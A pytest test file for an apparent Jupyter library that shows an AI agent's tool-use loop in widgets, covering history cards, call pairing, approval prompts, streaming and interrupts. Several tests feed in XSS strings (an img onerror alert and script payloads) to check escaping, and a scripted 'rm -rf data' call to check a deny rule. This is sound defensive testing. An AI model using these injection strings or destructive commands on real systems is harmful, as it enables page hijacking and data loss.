"""The views, tested through .value, .children, get_state() and .click() (no browser)."""

from __future__ import annotations

import asyncio
import gc
import re
import subprocess
import sys
import threading
import time
import weakref
from html import unescape
from pathlib import Path
from typing import Any

import ipywidgets as W
import pytest

import agentlab as al
from agentlab.fakeapi.offline import ScriptedClient, bad_request, text, tool_use
from agentlab.history import validate
from agentlab.i18n import set_language, t
from agentlab.tools import Policy, Tool, bash_tool
from agentlab.tools.todo import REMINDER, TodoList
from agentlab.views import HistoryView, LoopView, PairingView, show
from agentlab.views.history_view import PAGE
from agentlab.views.render import STYLE, escape
from tests.test_render import EVIL, IMG, SCRIPT, assert_inert, tool_turn


def html_of(widget: Any) -> str:
    """All HTML a widget tree (or a card's HTML string) would put on the page."""
    if isinstance(widget, str):
        return widget
    out = [str(widget.value)] if isinstance(widget, W.HTML) else []
    for child in getattr(widget, "children", ()):
        out.append(html_of(child))
    return "\n".join(out)


def classes(widget: W.Widget) -> list[str]:
    return list(widget.get_state()["_dom_classes"])


def hello_loop(tmp_path: Path, **options: Any) -> tuple[al.AgentLoop, ScriptedClient]:
    """One bash call (echo hello, and a file to show it ran), then a final answer."""
    command = "echo hello; touch ran.txt"
    client = ScriptedClient(
        [[text("Let me run it."), tool_use("bash", {"command": command})], "It printed **hello**."]
    )
    loop = al.AgentLoop(client, "Say hello", tools=[bash_tool(cwd=tmp_path)], **options)
    return loop, client


# --------------------------------------------------------------------------- HistoryView


def test_history_view_one_card_per_message() -> None:
    view = HistoryView(tool_turn())
    assert len(view.cards) == 4 and all(isinstance(c, str) for c in view.cards)
    assert repr(view) == "HistoryView(messages=4, pairs=1)"
    assert "4 messages · 1 tool call ·" in html_of(view)
    assert 'class="al-card al-card-user"' in view.cards[0]
    assert 'class="al-card al-card-results"' in view.cards[2]
    assert "<strong>hello</strong>" in view.cards[3]


@pytest.mark.parametrize("where", ["text", "tool_input", "tool_output"])
def test_history_view_escapes_model_and_tool_text(where: str) -> None:
    messages = tool_turn()
    if where == "text":
        messages[0]["content"] = EVIL
    elif where == "tool_input":
        messages[1]["content"][1]["input"] = {"command": EVIL}
    else:
        messages[2]["content"][0]["content"] = EVIL
    html = html_of(HistoryView(messages))
    assert_inert(html)
    assert "&lt;script&gt;alert(" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_a_pair_shares_badge_colour_and_highlight_class() -> None:
    view = HistoryView(tool_turn())
    use_card, result_card = view.cards[1], view.cards[2]
    for card in (use_card, result_card):
        assert 'class="al-block al-pair al-pair-1 al-s1"' in card  # the first call of its message
        assert 'class="al-badge al-pinner" style="--al-pair:#d97706"' in card  # click to pin
        assert '<input type="checkbox" class="al-pin">⇄ 1</label>' in card  # Tab reaches it
    # hovering or pinning either half lights up both: rules in the one shared stylesheet,
    # scoped to an assistant card and the results card right after it; none in the cards
    for rule in (
        ".al-card-assistant:has(.al-s1:hover)+.al-card-results .al-s1",
        ".al-card-assistant:has(+.al-card-results .al-s1:hover) .al-s1",
        ".al-card-assistant:has(.al-s1 .al-pin:checked)+.al-card-results .al-s1",
    ):
        assert rule in STYLE
    assert "<style" not in html_of(view.pages)
    assert html_of(view).count("<style") == 1  # the view's stylesheet (no pair pinned)


def test_a_parallel_call_lights_its_own_result() -> None:
    calls = [tool_use("bash", {"command": c}, id=f"toolu_{c}") for c in ("a", "b")]
    view = HistoryView(
        [
            {"role": "user", "content": "go"},
            {"role": "assistant", "content": calls},
            {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": "toolu_b", "content": "B"},
                    {"type": "tool_result", "tool_use_id": "toolu_a", "content": "A"},
                ],
            },
        ]
    )
    results = view.cards[2]
    assert results.index("al-pair-2 al-s2") < results.index("al-pair-1 al-s1")  # b first, as sent


def test_select_pins_a_pair_from_python() -> None:
    view = HistoryView(tool_turn())
    scope = [c for c in classes(view) if c.startswith("al-hv-")][0]
    view.select("toolu_01")
    assert view.selected == "toolu_01"
    assert f".{scope} .al-pair-1{{" in view._selection.value
    view.select("toolu_nope")
    assert view.selected is None and view._selection.value == ""


def parallel(n: int) -> list[dict[str, Any]]:
    """A task, one assistant message with ``n`` parallel calls, and their results."""
    uses = [
        tool_use("bash", {"command": f"echo {k}"}, id=f"toolu_{k:02d}") for k in range(1, n + 1)
    ]
    results = [{"type": "tool_result", "tool_use_id": u["id"], "content": "ok"} for u in uses]
    return [
        {"role": "user", "content": "go"},
        {"role": "assistant", "content": uses},
        {"role": "user", "content": results},
    ]


def test_calls_past_the_sixteenth_bring_their_own_rules_and_only_then() -> None:
    from agentlab.views.render import SLOTS, slots_style, transcript_html

    assert SLOTS == 16 and ".al-s16" in STYLE and ".al-s17" not in STYLE  # the shared sheet
    view = HistoryView(parallel(2))
    assert view._slots.value == "" and ".al-s17" not in transcript_html(view.messages)
    view.messages[:] = parallel(20)
    view.refresh()  # (a rebuild: the list changed)
    for card in view.cards[1:]:
        assert 'class="al-block al-pair al-pair-18 al-s18"' in card  # both halves
    rules = view._slots.value
    assert rules == slots_style(20) and rules.startswith("<style>")
    for k in (17, 20):
        assert f".al-card-assistant:has(.al-s{k}:hover)+.al-card-results .al-s{k}" in rules
        assert (
            f".al-card-assistant:has(+.al-card-results .al-s{k} .al-pin:checked) .al-s{k}" in rules
        )
    assert ".al-s16" not in rules and ".al-s21" not in rules
    assert slots_style(20) in transcript_html(view.messages)  # nbviewer too
    assert (
        slots_style(20) in LoopView(al.AgentLoop(ScriptedClient([]), view.messages))._repr_html_()
    )


def test_pair_blocks_carry_their_tool_use_id_for_the_pin_script() -> None:
    from agentlab.views import pins

    messages = tool_turn()
    messages[1]["content"][1]["id"] = 'toolu_"><b>x'
    messages[2]["content"][0]["tool_use_id"] = 'toolu_"><b>x'
    view = HistoryView(messages)
    for card in view.cards[1:3]:
        assert 'data-id="toolu_&quot;&gt;&lt;b&gt;x"' in card  # escaped like any attribute
    assert isinstance(view.script, pins.PairScript) and view.script in view.children
    assert view.script.layout.display == "none"


def test_without_anywidget_a_history_view_has_no_pin_script(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from agentlab.views import pins

    monkeypatch.setattr(pins, "anywidget", None)
    view = HistoryView(tool_turn())
    assert view.script is None and not pins.available()
    assert all(isinstance(c, W.Widget) for c in view.children)
    assert "al-pinner" in view.cards[1]  # the badges still pin, by CSS


def test_broken_history_is_flagged_on_the_cards() -> None:
    messages = tool_turn()
    messages[2]["content"][0]["tool_use_id"] = "toolu_99"
    view = HistoryView(messages)
    assert {p.rule for p in view.problems} == {"unanswered", "unexpected_result"}
    assert "&#x27;unanswered&#x27;" in html_of(view.cards[1])
    assert "&#x27;unexpected_result&#x27;" in html_of(view.cards[2])
    assert (
        'style="--al-pair:#cf222e" title="answers no tool_use in the message before it">?<'
        in view.cards[2]
    )
    assert "al-pair-" not in view.cards[2].split("al-flag")[0]  # no pair colour: it has no partner
    assert "2 problems" in html_of(view)


def test_plain_list_refresh_adds_new_cards_only() -> None:
    messages = tool_turn()[:2]
    view = HistoryView(messages)
    first = view.cards
    assert "waiting for its tool_result" in html_of(view.cards[1])
    messages.extend(tool_turn()[2:])
    view.refresh()
    assert view.cards[0] == first[0]  # the task's card is not drawn again
    assert len(view.cards) == 4
    assert "answered in messages[2]: ok" in html_of(view.cards[1])
    messages[0] = {"role": "user", "content": "Changed"}
    view.refresh()  # an earlier message changed: rebuild
    assert "Changed" in html_of(view.cards[0]) and "Changed" in html_of(view.pages)


def test_live_view_adds_exactly_one_card_per_append(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = HistoryView(loop)
    counts = []
    loop.subscribe(lambda e: counts.append(len(view.cards)) if e.kind == "append" else None)
    before = view.cards
    loop.run()
    assert counts == [2, 3, 4]  # one new card each time, nothing else
    assert view.cards[:1] == before
    (page,) = view.pages.children  # one HTML widget holds all four cards
    assert page.value.count('<details class="al-card ') == 4
    assert "answered in messages[2]: ok" in html_of(view.cards[1]) and view.cards[1] in page.value
    loop.reset()
    assert len(view.cards) == 1 and len(view.pages.children) == 1


def test_a_view_drawn_at_once_matches_one_that_grew() -> None:
    # tool turns, one of them broken (its result answers a call nobody made)
    messages = [*tool_turn(), {"role": "user", "content": "again"}]
    broken = tool_turn("ls", "a.txt")[1:3]
    broken[0]["content"][1]["id"] = "toolu_02"
    broken[1]["content"][0]["tool_use_id"] = "toolu_99"
    last = tool_turn("pwd", "/tmp")[1:]
    last[0]["content"][1]["id"] = last[1]["content"][0]["tool_use_id"] = "toolu_03"
    messages += [*broken, *last]
    grown = HistoryView(messages[:1])
    for k in range(2, len(messages) + 1):
        grown.messages.append(messages[k - 1])
        grown.refresh()  # one new card at a time, as during a run
    at_once = HistoryView(messages)
    assert len(at_once.cards) == len(messages) and at_once.cards == grown.cards
    assert [p.value for p in at_once.pages.children] == [p.value for p in grown.pages.children]
    assert {p.rule for p in at_once.problems} == {"unanswered", "unexpected_result"}


def test_long_history_is_paged_and_an_append_touches_one_page() -> None:
    messages: list[dict[str, Any]] = []
    for i in range(PAGE + 5):
        messages.append({"role": "user" if i % 2 == 0 else "assistant", "content": f"m{i}"})
    view = HistoryView(messages)
    cards = [p.value.count('<details class="al-card ') for p in view.pages.children]
    assert cards == [PAGE, 5]  # a widget per page, not per card
    first = view.pages.children[0]
    first_html = first.value
    changes: list[str] = []
    first.observe(lambda change: changes.append(change["name"]), names="value")
    messages.append({"role": "assistant" if len(messages) % 2 else "user", "content": "new"})
    view.refresh()
    cards = [p.value.count('<details class="al-card ') for p in view.pages.children]
    assert cards == [PAGE, 6] and view.pages.children[0] is first
    assert changes == [] and first.value == first_html  # the full page was not sent again


def test_a_results_card_stays_on_the_page_of_its_tool_calls() -> None:
    messages = [{"role": "user", "content": "go"}]
    for k in range(PAGE):  # tool turns: the results of turn 24 would open page 2
        use = tool_use("bash", {"command": "ls"}, id=f"toolu_{k:03d}")
        result = {"type": "tool_result", "tool_use_id": use["id"], "content": "x"}
        messages += [{"role": "assistant", "content": [use]}, {"role": "user", "content": [result]}]
    view = HistoryView(messages)
    pages = [p.value for p in view.pages.children]
    cards = [p.count('<details class="al-card ') for p in pages]
    assert cards == [PAGE + 1, len(messages) - PAGE - 1]
    assert pages[1].startswith('<details class="al-card al-card-assistant"')
    for page in pages:  # each tool_use's result is on its page, right after it
        assert page.count('class="al-block al-pair') == 2 * page.count("al-card-assistant")


# --------------------------------------------------------------------------- PairingView


def test_pairing_view_follows_the_loop_with_status_and_duration(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = PairingView(loop)
    assert "No tool calls yet." in view.table.value
    loop.step()  # request: the tool_use is in the history, not answered yet
    assert "waiting" in view.table.value
    loop.run()
    value = view.table.value
    assert "✓ ok" in value and "echo hello; touch ran.txt" in value
    assert f"{loop.durations['toolu_01']:.2f} s" in value
    assert repr(view) == "PairingView(pairs=1)"


def test_pairing_view_draws_only_the_rows_that_can_change_and_matches_a_full_redraw(
    tmp_path: Path,
) -> None:
    from agentlab.views.render import pairing_table_html, runs_of

    def full(loop: al.AgentLoop) -> str:
        return pairing_table_html(loop.messages, loop.durations, runs_of(loop))

    calls = [tool_use("bash", {"command": f"echo {k}"}) for k in range(3)]
    again = tool_use("bash", {"command": "echo 9"}, id="toolu_again")
    client = ScriptedClient([[text("a"), *calls[:2]], [calls[2]], "done", [again], "ok"])
    loop = al.AgentLoop(
        client,
        "go",
        tools=[bash_tool(cwd=tmp_path)],
        approve=lambda use: "no" if "1" in str(use.input) else True,
    )
    view = PairingView(loop)
    while not loop.done:
        if loop.step() in ("request", "append"):  # the stages that append (the view's cue)
            assert view.table.value == full(loop)
    assert view._from == len(loop.messages) - 1 and len(view._settled) == 3  # nothing redrawn
    assert "✗ denied" in view.table.value
    loop.ask("again")
    loop.run()
    assert view.table.value == full(loop) and ">4<" in view.table.value  # the 4th pair
    loop.reset()
    assert view.table.value == full(loop) and "No tool calls yet." in view.table.value
    messages = [{"role": "user", "content": "hi"}]  # a plain list changed by hand
    plain = PairingView(messages)
    messages[:] = tool_turn()
    plain._grow()
    assert plain.table.value == pairing_table_html(messages)


# --------------------------------------------------------------------------- LoopView


def test_n_and_t_are_bound_to_next_stage_and_run_turn(tmp_path: Path) -> None:
    from agentlab.views import keys

    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert isinstance(view.shortcuts, keys.Shortcuts) and view.shortcuts in view.children
    bound = view.shortcuts.bindings
    assert set(bound) == {"n", "t"}
    assert bound["n"] in classes(view.next_button) and bound["t"] in classes(view.turn_button)
    assert view.shortcuts.scope == ".al-loop" and "al-loop" in classes(view)
    assert "<kbd>N</kbd> Next stage, <kbd>T</kbd> Run turn" in html_of(view)
    assert view.next_button.tooltip.endswith("key N")


def test_without_anywidget_the_view_documents_tab_enter_and_space(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agentlab.views import keys

    monkeypatch.setattr(keys, "anywidget", None)
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert view.shortcuts is None and not keys.available()
    text = html_of(view)
    assert "<kbd>Tab</kbd> moves between the buttons" in text and "<kbd>N</kbd>" not in text
    assert "key N" not in view.next_button.tooltip
    view.next_button.click()  # the buttons work as before
    assert len(loop.messages) == 2


def stage_of(view: LoopView) -> str:
    return view.diagram.value.split('data-stage="')[1].split('"')[0]


def lit_nodes(view: LoopView) -> list[str]:
    svg = view.diagram.value
    return [
        part.split('"')[0]
        for part in svg.split('data-node="')[1:]
        if re.search('data-state="(next|ended)"', part.split(">")[0])
    ]


def test_a_follow_up_task_says_its_own_turns_beside_the_limit(tmp_path: Path) -> None:
    # As %%agent's next cell does: a new loop over a conversation that has two
    # replies already, with its own limit. "turn 3 (at most 1 per task)" would
    # contradict itself: the limit counts this task's requests only.
    loop, _ = hello_loop(tmp_path)
    loop.run()
    client = ScriptedClient([[text("Once more."), tool_use("bash", {"command": "true"})]])
    follow = al.AgentLoop(client, loop.messages, tools=[bash_tool(cwd=tmp_path)], max_turns=1)
    follow.ask("Again?")
    view = LoopView(follow)
    assert "turn 2 (this task: 0 of at most 1) · 5 messages<" in view.turn_label.value
    view.run_to_end()
    assert follow.ended == "turn_limit"
    assert "turn 3 (this task: 1 of at most 1) · 7 messages<" in view.turn_label.value
    assert "turn 3 (this task: 1 of at most 1)" in view._repr_html_()


def test_a_full_turn_stepped_by_clicks(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop)
    assert repr(view) == "LoopView(stage='request', turns=0, messages=1)"
    assert lit_nodes(view) == ["request"]
    # before any request the header says so, not "turn 0"
    assert "no turn yet (at most 20 per task) · 1 message<" in view.turn_label.value
    assert "No decision yet" in view.decision.value

    view.next_button.click()  # request
    assert loop.stage == "decide" and lit_nodes(view) == ["decide"]
    assert len(view.history.cards) == 2 and "tool_use" in html_of(view.history.cards[1])
    assert "<svg" in view.tokens.value  # usage exists now
    view.next_button.click()  # decide
    assert loop.stage == "execute" and lit_nodes(view) == ["execute"]
    assert (
        'stop_reason = "tool_use"' in view.decision.value and "run the tools" in view.decision.value
    )
    view.next_button.click()  # execute: results exist, not yet in the history
    assert loop.stage == "append" and lit_nodes(view) == ["pair", "append"]
    assert "Results ready to append" in view.results_box.value and "hello" in view.results_box.value
    assert len(view.history.cards) == 2 and (tmp_path / "ran.txt").exists()
    view.next_button.click()  # append
    assert loop.stage == "request" and view.results_box.value == ""
    assert len(view.history.cards) == 3 and "hello" in html_of(view.history.cards[2])
    view.next_button.click()  # request: the final answer
    view.next_button.click()  # decide: end_turn
    assert loop.stage == "done" and lit_nodes(view) == ["end"]
    assert "end_turn" in view.status.value
    state = view.next_button.get_state()
    assert state["disabled"] is True and view.reset_button.get_state()["disabled"] is False
    assert view.ask_row.layout.display == "flex"
    assert len(client.requests) == 2 and validate(loop.messages) == []
    assert view.pairings.table.value.count("✓ ok") == 1


def test_run_turn_and_run_to_end(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    view.turn_button.click()
    assert loop.stage == "request" and loop.turns == 1 and len(loop.messages) == 3
    view.run_button.click()
    assert loop.stage == "done" and loop.stop_reason == "end_turn"
    view.reset_button.click()
    assert loop.stage == "request" and len(view.history.cards) == 1
    assert "No decision yet" in view.decision.value and view.tokens.value == ""
    assert not view.next_button.disabled


def test_confirm_mode_deny_reaches_the_model(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.next_button.click()
    view.next_button.click()
    assert view.approval.layout.display == "none"
    view.next_button.click()  # execute: asks first, runs nothing
    assert view.waiting and view.approval.layout.display == "flex"
    assert "Approval needed (1 of 1)" in view.approval_info.value
    assert "echo hello; touch ran.txt" in view.approval_info.value
    assert view.edit_input.value == "echo hello; touch ran.txt"
    assert view.next_button.disabled and "Waiting for your approval" in view.status.value
    assert loop.stage == "execute"

    view.deny_reason.value = "no files today"
    busy_while_executing: list[bool] = []
    loop.subscribe(
        lambda e: (
            busy_while_executing.append(view.next_button.disabled) if e.kind == "tool_end" else None
        )
    )
    view.deny_button.click()
    assert busy_while_executing == [True]  # no second run can start while execute runs
    assert not view.waiting and view.approval.layout.display == "none"
    assert loop.stage == "append" and not (tmp_path / "ran.txt").exists()
    assert "Denied by the user: no files today" in view.results_box.value
    view.next_button.click()  # append
    view.next_button.click()  # request: the model reads the denial
    last = client.requests[-1]["messages"][-1]["content"][0]
    assert last["is_error"] is True and last["content"] == "Denied by the user: no files today"
    assert "Denied by the user: no files today" in html_of(view.history.cards[2])


def test_confirm_mode_approve_and_edit(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.run_button.click()  # runs until the tool needs a person
    assert view.waiting and loop.stage == "execute"
    view.approve_button.click()  # then goes on to the end
    assert loop.stage == "done" and (tmp_path / "ran.txt").exists()

    loop2, client2 = hello_loop(tmp_path)
    view2 = LoopView(loop2, confirm=True)
    view2.turn_button.click()
    view2.edit_input.value = "echo edited > edited.txt"
    view2.edit_button.click()
    assert (tmp_path / "edited.txt").read_text() == "edited\n"
    assert loop2.stage == "request" and loop2.audit[-1]["verdict"] == "edited"


def test_confirm_mode_edit_with_bad_json_keeps_waiting(tmp_path: Path) -> None:
    calls: list[dict[str, Any]] = []
    note = Tool(
        "note",
        "Keep a note.",
        {"type": "object", "properties": {"text": {"type": "string"}}},
        lambda text: calls.append({"text": text}) or "ok",
    )
    client = ScriptedClient([[tool_use("note", {"text": "a"})], "done"])
    loop = al.AgentLoop(client, "note it", tools=[note])
    view = LoopView(loop, confirm=True)
    view.turn_button.click()
    assert '"text": "a"' in view.edit_input.value
    view.edit_input.value = "{not json"
    view.edit_button.click()
    assert view.waiting and "not a JSON object" in view.approval_info.value
    view.edit_input.value = '{"text": "b"}'
    view.edit_button.click()
    assert calls == [{"text": "b"}]


def test_confirm_mode_respects_the_loops_policy_patterns(tmp_path: Path) -> None:
    client = ScriptedClient(
        [
            [
                tool_use("bash", {"command": "rm -rf data"}),
                tool_use("bash", {"command": "ls"}),
                tool_use("bash", {"command": "pwd"}),
            ],
            "ok",
        ]
    )
    policy = Policy(mode="confirm", deny=["rm *"], allow=["ls*"])
    loop = al.AgentLoop(client, "go", tools=[bash_tool(cwd=tmp_path)], approve=policy)
    view = LoopView(loop)  # a confirm-mode Policy turns confirm on
    assert view.confirm and view.confirm_box.value
    view.turn_button.click()
    assert (
        "Approval needed (3 of 3)" in view.approval_info.value and "pwd" in view.approval_info.value
    )
    view.approve_button.click()
    results = loop.messages[-1]["content"]
    assert results[0]["is_error"] and "deny pattern" in results[0]["content"]
    assert not results[1].get("is_error") and not results[2].get("is_error")


def test_confirm_off_leaves_the_loops_own_approve_alone(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path, approve=lambda call: "not now")
    view = LoopView(loop)
    assert not view.confirm
    view.turn_button.click()
    assert (
        not view.waiting
        and loop.messages[-1]["content"][0]["content"] == "Denied by the user: not now"
    )


def test_request_error_shows_in_the_view_and_leaves_history_intact(tmp_path: Path) -> None:
    client = ScriptedClient([bad_request("messages: roles must alternate")])
    loop = al.AgentLoop(client, "hi", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.next_button.click()
    assert "The step failed. The history is unchanged." in view.error.value
    assert "roles must alternate" in view.error.value
    assert loop.messages == [{"role": "user", "content": "hi"}] and loop.stage == "request"
    assert "The step failed" in view.status.value and not view.next_button.disabled


def test_history_error_shows_in_the_view(tmp_path: Path) -> None:
    client = ScriptedClient(["an answer"], check=False)
    messages = tool_turn()[:2]  # ends on an unanswered tool_use
    loop = al.AgentLoop(client, messages, tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.next_button.click()
    assert "without `tool_result` blocks" in view.error.value
    assert len(loop.messages) == 2


def test_unexpected_exception_shows_with_a_folded_traceback(tmp_path: Path) -> None:
    loop = al.AgentLoop(ScriptedClient([]), "hi", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.run_button.click()
    assert "no reply left" in view.error.value and "<details" in view.error.value
    assert "Traceback" in view.error.value and not view.busy


def test_interrupt_while_a_tool_runs_keeps_the_history_valid(tmp_path: Path) -> None:
    def stuck() -> str:
        raise KeyboardInterrupt

    tool = Tool("stuck", "Never ends.", {"type": "object", "properties": {}}, stuck)
    client = ScriptedClient([[tool_use("stuck")], "ok"])
    loop = al.AgentLoop(client, "go", tools=[tool])
    view = LoopView(loop)
    view.run_button.click()
    assert loop.stage == "done" and loop.ended == "interrupted"
    assert "Interrupted" in view.status.value and validate(loop.messages) == []
    assert "is_error" in html_of(view.history.cards[-1])


def test_stop_is_checked_between_stages(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    loop.subscribe(lambda e: view.stop_button.click() if e.kind == "decision" else None)
    view.run_button.click()
    assert loop.stage == "execute" and not (tmp_path / "ran.txt").exists()
    assert "Stopped before the execute stage." in view.status.value
    assert not view.busy and not view.next_button.disabled


def test_run_to_end_yields_to_the_event_loop_between_stages(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)

    async def main() -> list[str]:
        seen = []
        view.run_button.click()  # one stage now, the rest scheduled
        while view.busy:
            seen.append(loop.stage)
            assert view.run_button.disabled and not view.stop_button.disabled
            await asyncio.sleep(0)
        return seen

    seen = asyncio.run(main())
    assert loop.stage == "done" and len(set(seen)) >= 3


def test_run_to_end_called_in_a_cell_finishes_before_returning(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)

    async def cell() -> None:  # a kernel runs cells inside its event loop
        view.run_to_end()
        assert loop.stage == "done" and not view.busy

    asyncio.run(cell())


def test_stop_click_while_running_in_the_event_loop(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)

    async def main() -> None:
        view.run_button.click()
        await asyncio.sleep(0)
        view.stop_button.click()  # handled between two stages
        while view.busy:
            await asyncio.sleep(0)

    asyncio.run(main())
    assert loop.stage not in ("done", "request") and "Stopped before" in view.status.value


def test_a_click_handled_on_another_thread_runs_the_stages_on_the_main_thread(
    tmp_path: Path,
) -> None:
    """JupyterLab 4.6+ handles widget clicks in a kernel subshell (another thread)."""
    loop, _ = hello_loop(tmp_path)
    threads: list[str] = []
    loop.subscribe(
        lambda e: threads.append(threading.current_thread().name) if e.kind == "stage" else None
    )

    async def cell() -> None:
        view = LoopView(loop)  # made in a cell: it knows the kernel's event loop
        click = threading.Thread(target=view.run_button.click, name="subshell")
        click.start()
        click.join()  # the click returned at once: the run was handed over
        assert view.busy and threads == []
        while view.busy:
            await asyncio.sleep(0.01)

    asyncio.run(cell())
    assert loop.stage == "done" and set(threads) == {"MainThread"} and len(threads) == 6


def test_stop_handled_on_another_thread_interrupts_a_running_tool() -> None:
    started = threading.Event()

    def slow() -> str:
        started.set()
        for _ in range(1000):  # 10 s unless interrupted
            time.sleep(0.01)
        return "finished"

    tool = Tool("slow", "Slow.", {"type": "object", "properties": {}}, slow)
    loop = al.AgentLoop(ScriptedClient([[tool_use("slow")], "ok"]), "go", tools=[tool])

    async def cell() -> LoopView:
        view = LoopView(loop)

        def stop_when_running() -> None:
            assert started.wait(10)
            view.stop_button.click()

        threading.Thread(target=view.run_button.click).start()
        stopper = threading.Thread(target=stop_when_running)
        stopper.start()
        while view.busy or stopper.is_alive():
            await asyncio.sleep(0.01)
        return view

    view = asyncio.run(cell())
    assert loop.ended == "interrupted" and validate(loop.messages) == []
    result = loop.messages[-1]["content"][0]
    assert result["is_error"] and result["content"].startswith("Interrupted")
    assert "Interrupted at the execute stage" in view.status.value and not view._in_stage


def test_streamed_text_appears_as_it_arrives(tmp_path: Path) -> None:
    client = ScriptedClient(["One two three four."])
    loop = al.AgentLoop(client, "count", tools=[bash_tool(cwd=tmp_path)], stream=True)
    view = LoopView(loop)
    shown: list[str] = []
    loop.subscribe(lambda e: shown.append(view.stream_box.value) if e.kind == "text" else None)
    view.next_button.click()
    assert len(shown) == 4
    assert "One " in shown[0] and "two" not in shown[0] and "One two three four." in shown[-1]
    assert view.stream_box.layout.display == "none"  # the reply is in the history now


def test_streamed_text_is_escaped(tmp_path: Path) -> None:
    client = ScriptedClient([f"look {IMG} {SCRIPT}"])
    loop = al.AgentLoop(client, "x", tools=[bash_tool(cwd=tmp_path)], stream=True)
    view = LoopView(loop)
    shown: list[str] = []
    loop.subscribe(lambda e: shown.append(view.stream_box.value) if e.kind == "text" else None)
    view.next_button.click()
    assert shown  # the text really streamed through the view
    for value in shown:
        assert_inert(value)
    assert_inert(html_of(view))


def test_elapsed_time_shows_while_a_stage_runs(tmp_path: Path) -> None:
    seen: list[str] = []

    def shown() -> float:  # the seconds the status shows, 0 before the first tick
        found = re.search(r"… (\d+\.\d) s", view.status.value)
        return float(found.group(1)) if found else 0.0

    def slow() -> (
        str
    ):  # runs until the ticker has shown half a second (a loaded machine may skip 0.5)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and shown() < 0.5:
            time.sleep(0.02)
        seen.append(view.status.value)
        return "done"

    tool = Tool("slow", "Slow.", {"type": "object", "properties": {}}, slow)
    loop = al.AgentLoop(ScriptedClient([[tool_use("slow")], "ok"]), "go", tools=[tool])
    view = LoopView(loop)
    view.turn_button.click()
    assert re.search(r"Running execute: slow\(\{\}\)… \d+\.\d s", seen[0]), seen
    assert 0.5 <= float(re.search(r"(\d+\.\d) s", seen[0]).group(1)) < 30
    assert "Running" not in view.status.value
    assert not [t for t in threading.enumerate() if t.name == "agentlab-ticker"]


def test_follow_up_question_when_done(tmp_path: Path) -> None:
    client = ScriptedClient(["first", "second"])
    loop = al.AgentLoop(client, "one", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.run_button.click()
    view.ask_input.value = "and then?"
    view.ask_button.click()  # adds the question and runs the loop on it
    assert loop.stage == "done" and len(view.history.cards) == 4
    assert "second" in html_of(view.history.cards[-1]) and view.ask_input.value == ""
    view.ask("and now?", run=False)  # from Python: add it only
    assert loop.stage == "request" and len(view.history.cards) == 5


def test_chinese_labels(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    set_language("zh")
    try:
        view = LoopView(loop)
    finally:
        set_language("en")
    assert (
        view.next_button.description == "下一阶段" and view.run_button.description == "运行到结束"
    )
    assert "Agent 循环" in view.title.value


# --------------------------------------------------------------------------- display without widgets


def test_display_bundle_has_the_widget_and_an_html_fallback(tmp_path: Path) -> None:
    from IPython.core.formatters import DisplayFormatter

    loop, _ = hello_loop(tmp_path)
    loop.run()
    for view in (LoopView(loop), HistoryView(loop), PairingView(loop)):
        data, _ = DisplayFormatter().format(view)
        assert "application/vnd.jupyter.widget-view+json" in data
        assert data["text/plain"] == repr(view)
        assert '<div class="al-root">' in data["text/html"]
        assert "0x" not in data["text/plain"]
    html = LoopView(loop)._repr_html_()
    assert "<svg" in html and "tool_use" in html and "⇄ 1" in html and "end_turn" in html


def test_reprs_are_short_and_stable(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    assert (
        repr(LoopView(loop))
        == repr(LoopView(loop))
        == "LoopView(stage='request', turns=0, messages=1)"
    )
    assert repr(HistoryView([])) == "HistoryView(messages=0, pairs=0)"


def test_closed_views_stop_listening(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert len(loop._listeners) == 3
    view.close()
    assert loop._listeners == []


def test_show_picks_the_view(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import IPython.display

    shown: list[Any] = []
    monkeypatch.setattr(IPython.display, "display", lambda obj: shown.append(obj))
    loop, _ = hello_loop(tmp_path)
    show(loop)
    show(tool_turn())
    assert [type(v) for v in shown] == [LoopView, HistoryView]


def test_import_agentlab_does_not_import_ipywidgets() -> None:
    code = "import sys, agentlab; assert 'ipywidgets' not in sys.modules; agentlab.HistoryView; assert 'ipywidgets' in sys.modules"
    subprocess.run([sys.executable, "-c", code], check=True)


# --------------------------------------------------------------------------- issue 14: state that tells the truth


def test_stop_while_waiting_for_approval_hides_the_panel(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.run_button.click()
    assert view.waiting and view.approval.layout.display == "flex"
    assert not view.stop_button.disabled
    view.stop_button.click()
    assert not view.waiting and view.approval.layout.display == "none"
    assert "Stopped while waiting for approval" in view.status.value
    assert loop.stage == "execute" and not (tmp_path / "ran.txt").exists()
    view.approve_button.click()  # the panel is gone: an old click does nothing
    assert loop.stage == "execute" and not (tmp_path / "ran.txt").exists()
    view.next_button.click()  # asks again
    assert view.waiting and view.approval.layout.display == "flex"


